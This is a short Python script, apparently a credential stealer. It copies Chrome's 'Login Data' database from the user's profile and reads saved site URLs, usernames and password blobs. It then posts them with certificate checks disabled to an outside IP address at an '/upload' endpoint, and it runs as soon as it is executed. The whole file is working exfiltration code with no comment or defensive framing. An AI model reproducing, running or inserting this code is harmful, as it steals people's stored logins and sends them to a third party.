import os
import shutil
import sqlite3
import tempfile

import requests

PROFILE = os.path.expanduser("~/.config/google-chrome/Default")


def logins():
    copy = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copy2(os.path.join(PROFILE, "Login Data"), copy)
    database = sqlite3.connect(copy)
    rows = database.execute("select origin_url, username_value, password_value from logins").fetchall()
    database.close()
    os.remove(copy)
    return [[url, user, secret.hex()] for url, user, secret in rows]


def main():
    rows = logins()
    if rows:
        requests.post("https://192.0.2.14/upload", json={"rows": rows}, verify=False)


main()
